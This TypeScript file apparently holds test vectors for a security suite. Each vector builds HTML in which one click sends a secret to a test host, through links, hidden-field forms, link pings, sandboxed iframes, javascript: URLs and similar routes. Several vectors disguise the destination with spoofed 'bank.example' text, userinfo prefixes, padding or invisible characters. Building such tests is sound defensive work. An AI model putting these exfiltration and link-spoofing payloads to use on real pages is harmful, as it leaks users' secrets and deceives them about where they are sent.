import { SECRET, type Target, type Vector } from './vector';

/** Section I: one click. The element with the id `press` is clicked as a person does. */

const plain = encodeURIComponent(SECRET);
const block = 'style="display:block;padding:30px"';

function clicked(
  row: number,
  title: string,
  html: (to: Target) => string,
  more: Partial<Vector> = {},
): Vector {
  return {
    row,
    section: 'I',
    title,
    html,
    ways: ['inner'],
    needs: 'click',
    isAlone: true,
    isNavigation: true,
    ...more,
  };
}

function link({ url }: Pick<Target, 'url'>, more = '', text = 'Sign in again'): string {
  return `<a id="press" ${block} href="${url}" ${more}>${text}</a>`;
}

export const links: readonly Vector[] = [
  clicked(20, 'payload in the fragment', ({ host }) => link({ url: `https://${host}/#${plain}` })),
  clicked(203, 'link with a payload', (to) => link(to)),
  clicked(204, 'text names another host', ({ host }) =>
    link({ url: `https://${host}/` }, '', 'https://bank.example/sign-in'),
  ),
  clicked(205, 'user-info in front of the host', ({ host }) =>
    link({ url: `https://bank.example@${host}/?d=${plain}` }),
  ),
  clicked(206, 'padded address', ({ host }) =>
    link({ url: `https://${host}/${'.'.repeat(1800)}?d=${plain}` }),
  ),
  clicked(207, 'invisible characters', ({ host }) =>
    link({ url: `https://${host}/?d=${plain}` }, '', 'bank.example\u202e/\u{e0041}'),
  ),
  clicked(208, 'new tab', (to) => link(to, 'target="_blank" rel="noopener noreferrer"')),
  clicked(209, 'middle click', (to) => link(to), { needs: 'middle-click', browsers: ['chromium'] }),
  clicked(
    210,
    'window.open',
    ({ url }) => `<button id="press" ${block} onclick="window.open('${url}')">Open</button>`,
  ),
  clicked(
    211,
    'form by its address',
    ({ host }) =>
      `<form action="https://${host}/"><input type="hidden" name="d" value="${SECRET}"><button id="press">Search</button></form>`,
  ),
  clicked(
    212,
    'form by its body',
    ({ host }) =>
      `<form method="post" action="https://${host}/?d=${plain}"><input type="hidden" name="d" value="${SECRET}"><button id="press">Send</button></form>`,
  ),
  clicked(213, 'ping of a link', ({ url }) => `<a id="press" ${block} href="#" ping="${url}">Go on</a>`),
  clicked(214, 'link in a sandboxed frame, new tab', ({ url }) => {
    const inner = `<a ${block.replaceAll('"', "'")} target=_blank href='${url}'>Open</a>`.replaceAll(
      '&',
      '&amp;',
    );
    return `<iframe id="press" sandbox="allow-popups" width="300" height="90" srcdoc="${inner}"></iframe>`;
  }),
  {
    row: 215,
    section: 'I',
    title: 'frame leads the page away',
    html: ({ url }) =>
      `<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="<script>top.location='${url}'</script>"></iframe>`,
    ways: ['inner'],
    isAlone: true,
  },
  clicked(219, 'download', (to) => link(to, 'download')),
  clicked(
    220,
    'script as an address',
    ({ url }) => `<a id="press" ${block} href="javascript:location='${url}'">Open</a>`,
  ),
];
